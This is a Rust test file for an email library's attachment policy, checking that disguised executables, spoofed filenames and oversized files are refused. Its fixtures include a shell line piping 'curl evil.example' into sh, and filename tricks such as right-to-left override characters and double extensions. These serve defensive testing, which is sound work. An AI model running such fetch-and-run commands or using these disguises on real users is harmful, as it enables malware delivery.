//! The default attachment policy against disguised files: each row is a file as an
//! attacker (or a careless user) would send it, and the rule that must refuse it, or
//! `None` for a legitimate file that must pass.

use smtpkit::{
    Message,
    mime::{AttachmentPolicy, MimeError, PolicyRule},
};

/// A Windows program's first octets: the DOS header, `e_lfanew` at 0x3C pointing at the
/// `PE\0\0` signature.
fn pe() -> Vec<u8> {
    let mut v = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    v.resize(0x80, 0);
    v[0x3c] = 0x80;
    v.extend_from_slice(b"PE\0\0\x4c\x01\x03\0");
    v.resize(512, 0);
    v
}

fn elf() -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    v.resize(256, 0);
    v
}

fn mach_o() -> Vec<u8> {
    let mut v = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".to_vec();
    v.resize(256, 0);
    v
}

fn java_class() -> Vec<u8> {
    let mut v = b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec();
    v.resize(64, 0);
    v
}

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0";
const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0a.txt";

/// What refused a file, by rule name, or `ok`.
fn verdict(name: &str, declared: &str, data: Vec<u8>) -> String {
    let built = Message::builder()
        .from("a@example.com")
        .to("b@example.com")
        .text_body("see attachment")
        .attachment(name, declared, data)
        .build();
    match built {
        Ok(_) => "ok".to_owned(),
        Err(e @ MimeError::AttachmentRefused { .. }) => {
            let shown = e.to_string();
            let MimeError::AttachmentRefused { name: refused, rule } = e else { unreachable!() };
            assert_eq!(refused, name, "the error names the file");
            assert!(shown.contains(&format!("{name:?}")) && shown.contains(&rule.to_string()), "{shown}");
            format!("{rule:?}").split([' ', '{', '(']).next().unwrap_or_default().to_owned()
        }
        Err(other) => format!("other: {other:?}"),
    }
}

#[test]
fn disguised_files_are_refused_with_the_rule_that_caught_them() {
    let table: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        // Programs under innocent names and types: caught by their content.
        ("invoice.pdf", "application/pdf", pe(), "ExecutableContent"),
        ("report.txt", "text/plain", elf(), "ExecutableContent"),
        ("photo.png", "image/png", mach_o(), "ExecutableContent"),
        ("data.bin", "application/octet-stream", java_class(), "ExecutableContent"),
        ("notes.txt", "text/plain", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(), "ExecutableContent"),
        ("noextension", "application/octet-stream", pe(), "ExecutableContent"),
        // Names that hide what opens the file.
        ("invoice.pdf.exe", "application/pdf", PDF.to_vec(), "DoubleExtension"),
        ("Scan 2026.jpg.scr", "image/jpeg", JPEG.to_vec(), "DoubleExtension"),
        ("setup.exe.", "application/octet-stream", b"x".to_vec(), "DeniedExtension"),
        ("setup.exe  ", "application/octet-stream", b"x".to_vec(), "DeniedExtension"),
        ("script.JS", "text/plain", b"alert(1)".to_vec(), "DeniedExtension"),
        ("update.vbs", "text/plain", b"MsgBox 1".to_vec(), "DeniedExtension"),
        ("disk.iso", "application/octet-stream", vec![0; 64], "DeniedExtension"),
        ("invoice\u{202e}fdp.exe", "application/pdf", PDF.to_vec(), "HiddenCharacter"),
        ("report\u{200b}.pdf", "application/pdf", PDF.to_vec(), "HiddenCharacter"),
        // Declared as a program.
        ("tool.pdf", "application/x-msdownload", PDF.to_vec(), "ExecutableType"),
        // A declared type or an extension the content contradicts.
        ("scan.pdf", "application/pdf", PNG.to_vec(), "TypeMismatch"),
        ("photo.jpg", "application/octet-stream", PDF.to_vec(), "ExtensionMismatch"),
        ("photo.png", "image/png", JPEG.to_vec(), "TypeMismatch"),
        // Legitimate files pass.
        ("invoice.pdf", "application/pdf", PDF.to_vec(), "ok"),
        ("photo.jpg", "image/jpg", JPEG.to_vec(), "ok"),
        ("archive.zip", "application/zip", ZIP.to_vec(), "ok"),
        (
            "letter.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ZIP.to_vec(),
            "ok",
        ),
        ("states.csv", "text/csv", b"MZ,Mizoram\nKA,Karnataka\n".to_vec(), "ok"),
        ("page.txt", "text/plain", b"<html><body>saved page</body></html>".to_vec(), "ok"),
        ("unknown.dat", "application/octet-stream", vec![7; 300], "ok"),
        ("report.exe.pdf", "application/pdf", PDF.to_vec(), "ok"),
    ];
    let mut wrong = Vec::new();
    for (name, declared, data, want) in table {
        let got = verdict(name, declared, data);
        if got != want {
            wrong.push(format!("{name:?} as {declared}: want {want}, got {got}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn rules_can_be_turned_off() {
    let build = |policy: AttachmentPolicy, name: &str, data: Vec<u8>| {
        Message::builder()
            .from("a@example.com")
            .to("b@example.com")
            .policy(policy)
            .attachment(name, "application/octet-stream", data)
            .build()
    };
    assert!(build(AttachmentPolicy::permissive(), "setup.exe", pe()).is_ok());
    assert!(
        build(AttachmentPolicy::default().allow_extension("exe").deny_executables(false), "setup.exe", pe())
            .is_ok()
    );
    assert!(matches!(
        build(AttachmentPolicy::default().allow_extension("exe"), "setup.exe", pe()),
        Err(MimeError::AttachmentRefused { rule: PolicyRule::ExecutableContent { .. }, .. })
    ));
    assert!(matches!(
        build(AttachmentPolicy::default().deny_extension(".PY"), "tool.py", b"print(1)".to_vec()),
        Err(MimeError::AttachmentRefused { rule: PolicyRule::DeniedExtension { .. }, .. })
    ));
    assert!(build(AttachmentPolicy::default().check_mismatch(false), "photo.jpg", PDF.to_vec()).is_ok());
    assert!(build(AttachmentPolicy::default().check_names(false), "a\u{202e}b.txt", b"x".to_vec()).is_ok());
    // Inline images and attached custom parts are checked too.
    let err = Message::builder()
        .from("a@example.com")
        .to("b@example.com")
        .html_body("<img src=cid:logo>")
        .inline_image("logo", "image/png", pe())
        .build();
    assert!(matches!(err, Err(MimeError::AttachmentRefused { ref name, .. }) if name == "logo"), "{err:?}");
    let err = Message::builder()
        .from("a@example.com")
        .to("b@example.com")
        .attach_part(smtpkit::mime::Part::binary("application/pdf", pe()).attachment("x.pdf"))
        .build();
    assert!(matches!(err, Err(MimeError::AttachmentRefused { ref name, .. }) if name == "x.pdf"), "{err:?}");
}

/// Files are vetted from their metadata and first octets: a 200 GB sparse file is refused
/// at once (reading it would take minutes and the memory of the machine), and so is a
/// program disguised as a PDF on disk.
#[test]
fn files_are_refused_before_they_are_read() {
    let dir = std::env::temp_dir().join(format!("smtpkit-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let huge = dir.join("huge.pdf");
    std::fs::File::create(&huge).unwrap().set_len(200 << 30).unwrap();
    let base = || Message::builder().from("a@example.com").to("b@example.com").text_body("files");
    let err =
        base().policy(AttachmentPolicy::default().max_attachment_size(25 << 20)).attach_file(&huge).build();
    assert!(matches!(err, Err(MimeError::AttachmentTooLarge { size, .. }) if size == 200 << 30), "{err:?}");
    let err = base().policy(AttachmentPolicy::default().max_total_size(25 << 20)).attach_file(&huge).build();
    assert!(matches!(err, Err(MimeError::TotalTooLarge { .. })), "{err:?}");
    // After encoding: base64 makes 10 MiB of content about 13.7 MiB of message.
    let ten = dir.join("ten.pdf");
    std::fs::File::create(&ten).unwrap().set_len(10 << 20).unwrap();
    let err = base().policy(AttachmentPolicy::default().max_message_size(12 << 20)).attach_file(&ten).build();
    assert!(
        matches!(err, Err(MimeError::MessageTooLarge { size, max }) if size > 13 << 20 && max == 12 << 20),
        "{err:?}"
    );
    // A small message over a small limit is refused after serialisation.
    let err = base().policy(AttachmentPolicy::default().max_message_size(100)).build();
    assert!(matches!(err, Err(MimeError::MessageTooLarge { max: 100, .. })), "{err:?}");

    let disguised = dir.join("invoice.pdf");
    std::fs::write(&disguised, pe()).unwrap();
    let err = base().attach_file(&disguised).build();
    assert!(
        matches!(err, Err(MimeError::AttachmentRefused { ref name, rule: PolicyRule::ExecutableContent { .. } }) if name == "invoice.pdf"),
        "{err:?}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}
